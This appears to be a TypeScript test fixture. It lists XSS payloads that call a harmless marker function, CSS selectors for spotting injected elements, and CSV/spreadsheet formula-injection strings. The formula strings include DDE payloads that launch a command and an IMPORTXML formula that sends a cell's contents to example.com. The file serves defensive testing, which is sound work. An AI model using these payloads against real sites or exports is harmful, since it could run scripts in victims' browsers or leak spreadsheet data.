/**
 * Text a person might type, paste or put in a file that a careless page would run or turn into markup: the corpus
 * of the tests that user text is always text (tests/e2e/user-text-is-text.test.ts) and that no export runs as a
 * spreadsheet formula (tests/unit/formula-injection.test.ts).
 *
 * Every script payload calls window.__bansoXss(n) with its own number, so a test can tell which one ran; every
 * element a payload would create is found by xssElementSelector.
 */

/** One payload: `text` as typed; `short` when it fits a 100-character name field. */
export interface Payload {
  id: number;
  kind: string;
  text: string;
}

const LONG_PROSE = '長いふりかえりの文章です。It goes on and on, as a real reflection does. '.repeat(6).trim();

export const xssPayloads: readonly Payload[] = [
  { id: 1, kind: 'script element', text: '<script>__bansoXss(1)</script>' },
  { id: 2, kind: 'img onerror', text: '<img src=x onerror=__bansoXss(2)>' },
  { id: 3, kind: 'svg onload', text: '<svg onload=__bansoXss(3)>' },
  { id: 4, kind: 'javascript: URL', text: 'javascript:__bansoXss(4)//' },
  { id: 5, kind: 'attribute breaker', text: `"'><img src=x onerror=__bansoXss(5)>` },
  { id: 6, kind: 'attribute breaker and comment', text: `'"></textarea></title><script>__bansoXss(6)</script><!--` },
  { id: 7, kind: 'template syntax {{…}}', text: "{{constructor.constructor('__bansoXss(7)')()}}" },
  { id: 8, kind: 'template literal ${…}', text: '${__bansoXss(8)} #{__bansoXss(8)} {__bansoXss(8)}' },
  { id: 9, kind: 'HTML entities', text: '&lt;img src=x onerror=__bansoXss(9)&gt; &amp;amp; &#60;b&#62; &quot;' },
  { id: 10, kind: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__bansoXss(10)</script>"></iframe>' },
  { id: 11, kind: 'details ontoggle', text: '<details open ontoggle=__bansoXss(11)>x</details>' },
  { id: 12, kind: 'link to javascript:', text: '<a href="javascript:__bansoXss(12)">link</a>' },
  { id: 13, kind: 'RTL override and zero-width', text: '\u202Egnp.exe\u200B<b onmouseover=__bansoXss(13)>\u200D\u2066RTL\u2069</b>\u200C' },
  { id: 14, kind: 'very long text', text: `${LONG_PROSE}<img src=x onerror=__bansoXss(14)>${LONG_PROSE}` },
  { id: 15, kind: 'mutation XSS (math/style)', text: '<math><mtext><table><mglyph><style><img src=x onerror=__bansoXss(15)>' },
  { id: 16, kind: 'style element', text: '<style>*{display:none!important}</style><p class=xss-probe>styled</p>' },
];

/** Payloads that fit a field of `max` characters (a dataset name is 100 at most). */
export const payloadsUpTo = (max: number) => xssPayloads.filter((payload) => payload.text.length <= max);

/** Every payload in one text, one a line: what a reflection pasted whole would hold. */
export const corpusText = (payloads: readonly Payload[] = xssPayloads) => payloads.map((payload) => payload.text).join('\n');

/**
 * Any element or attribute a payload above would create: event handler attributes, javascript: links, an iframe
 * from srcdoc, the payloads' own tags and marker class, a script or style element holding a payload.
 */
export const xssElementSelector = [
  '[onerror]', '[onload]', '[ontoggle]', '[onmouseover]', '[srcdoc]', '[href^="javascript:" i]', 'img[src="x"]',
  'iframe', 'math', 'mglyph', 'details[ontoggle]', '.xss-probe', 'b[onmouseover]',
].join(', ');

/**
 * Text a spreadsheet would run as a formula, or that must stay a number: the OWASP CSV injection starters
 * (=, +, -, @, tab, carriage return), Japanese Excel's full-width ＝ ＋ － ＠, and DDE/HYPERLINK payloads.
 */
export const formulaPayloads: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.com/","詳細")',
  "=cmd|' /C calc'!A0",
  '+81-3-1234-5678',
  '+SUM(A1:A9)',
  '-2+3+cmd|\' /C calc\'!A0',
  '-',
  '@SUM(A1:A9)',
  '@',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '=IMPORTXML(CONCAT("http://example.com/?", A1), "//a")',
];
